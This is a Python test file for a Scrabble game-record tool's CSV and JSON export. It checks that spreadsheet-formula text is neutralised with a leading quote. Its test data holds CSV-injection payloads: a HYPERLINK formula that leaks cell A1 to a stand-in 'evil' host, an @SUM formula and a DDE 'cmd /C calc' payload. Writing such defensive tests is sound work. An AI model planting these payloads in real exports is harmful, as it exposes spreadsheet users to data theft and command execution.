"""What pgm's CSV must never do: hand a spreadsheet a formula (a nickname
``=HYPERLINK(...)``, an exchange ``-GMNNPY``)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from sitehelpers import make_event, run_build

from pgm.cli import main
from pgm.export import CSV_HEADER, csv_cell

EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'
RECORD = f"""\
#player1 {EVIL} Ann
#player2 @bob Bob
>{EVIL}: ZAEINRS 8G ZA +22 22
#note @SUM(1+1) said Ann
>@bob: GMNNPYQ -GMNNPY +0 0
#note +cmd|' /C calc'!A0
>{EVIL}: EINRSTV -4 +0 22
>@bob: QIABCDE 9F QI +24 24
>@bob: QIABCDE -- -24 0
""".encode()

ROWS = [  # the cells of RECORD after the game column, as a CSV reader gets them
    ["1", "'" + EVIL, "ZAEINRS", "8G", "ZA", "22", "22", "play", ""],
    ["2", "'@bob", "GMNNPYQ", "", "GMNNPY", "0", "0", "exchange", ""],
    ["3", "'" + EVIL, "EINRSTV", "", "4", "0", "22", "exchange", ""],
    ["4", "'@bob", "QIABCDE", "9F", "QI", "24", "24", "play", ""],
    ["5", "'@bob", "QIABCDE", "", "", "-24", "0", "withdrawal", ""],
]


def run(*args: str):
    return CliRunner().invoke(main, list(args))


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# -- spreadsheet formulas ----------------------------------------------------------------


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+33", "'+33"), ("-GMNNPY", "'-GMNNPY"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Ann", "Ann"), ("", ""), ("(OPEG)", "(OPEG)"), ("a=b", "a=b"),
    (-7, -7), (33, 33), (0, 0), (None, None),
])
def test_only_text_that_a_spreadsheet_would_run_gets_a_quote(value, cell) -> None:
    assert csv_cell(value) == cell


def test_export_csv_quotes_formula_text_and_keeps_numbers(tmp_path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("t.gcg").write_bytes(RECORD)
    result = run("export", "t.gcg")
    assert result.exit_code == 0 and result.stderr == ""
    assert result.stdout.startswith(CSV_HEADER)
    assert table(result.stdout)[1:] == [["t.gcg", *row] for row in ROWS]
    assert "t.gcg,5,'@bob,QIABCDE,,,-24,0,withdrawal,\n" in result.stdout
    assert "SUM" not in result.stdout and "calc" not in result.stdout  # notes are no column


def test_json_keeps_the_values_as_recorded(tmp_path) -> None:
    (tmp_path / "t.gcg").write_bytes(RECORD)
    rows = json.loads(run("export", "--format", "json", str(tmp_path / "t.gcg")).stdout)
    assert [(r["player"], r["word"], r["score"]) for r in rows] == [
        (EVIL, "ZA", 22), ("@bob", "GMNNPY", 0), (EVIL, "4", 0), ("@bob", "QI", 24),
        ("@bob", None, -24)]


def test_the_sites_moves_csv_files_are_quoted_alike(tmp_path) -> None:
    event = make_event(tmp_path / "ev", {"-r1.gcg": RECORD, "+r2.gcg": RECORD})
    out = tmp_path / "site"
    assert run_build(str(event), "-o", str(out), "--quiet").exit_code == 0
    game = (out / "r1/moves.csv").read_text(encoding="utf-8")
    assert table(game)[1:] == [["'-r1.gcg", *row] for row in ROWS]
    whole = (out / "moves.csv").read_text(encoding="utf-8")
    assert table(whole)[0] == CSV_HEADER.rstrip("\n").split(",")
    assert table(whole)[1:] == [[name, *row] for name in ("'+r2.gcg", "'-r1.gcg")
                                for row in ROWS]
